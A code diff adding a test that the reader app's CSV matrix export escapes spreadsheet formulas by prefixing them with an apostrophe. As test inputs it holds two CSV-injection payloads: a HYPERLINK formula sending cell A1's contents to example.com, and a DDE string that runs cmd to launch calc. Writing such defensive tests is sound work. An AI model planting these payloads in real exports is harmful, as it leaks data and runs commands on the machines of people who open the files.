@@ -277,6 +277,32 @@ async def test_e_writes_the_matrix_on_screen_as_csv_and_markdown(
     assert len(markdown) == len(rows) + 1 and markdown[0].startswith("| source | ")
 
 
+async def test_the_tables_written_as_csv_never_hold_a_formula(
+    library: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A source or theme an import brought in may begin with a formula's sign: written with
+    an apostrophe first, as `reader export -f csv` writes it."""
+    source, theme = '=HYPERLINK("http://example.com/?"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0"
+    tag_quotes(library, [(ICE, "Their authority in Canada", source, [theme])])
+    out = tmp_path / "out"
+    out.mkdir()
+    monkeypatch.chdir(out)
+    app = ReaderApp(library=library)
+    async with app.run_test(size=SIZE, notifications=True) as pilot:
+        await settle(pilot)
+        await press(pilot, "M")
+        await settle(pilot)
+        await press(pilot, "e")
+        await settle(pilot)
+        assert "Wrote reader-matrix-" in notified(app)
+    (csv_file,) = out.glob("reader-matrix-*.csv")
+    cells = [c for row in csv.reader(io.StringIO(csv_file.read_text("utf-8-sig"))) for c in row]
+    # (names as the codebook keeps them: "//" is a theme path's separator, so one "/")
+    assert any(c.startswith("'=HYPERLINK(") for c in cells)
+    assert any(c.startswith("'@SUM(1+1)") for c in cells)
+    assert not any(cell.startswith(("=", "@")) for cell in cells)
+
+
 def test_a_matrix_cell_of_no_theme_or_no_source_lists_only_what_it_counts() -> None:
     from reader.annotations.stats import NO_SOURCE, NO_THEME
     from reader.ui.screens.analysis_screen import _query
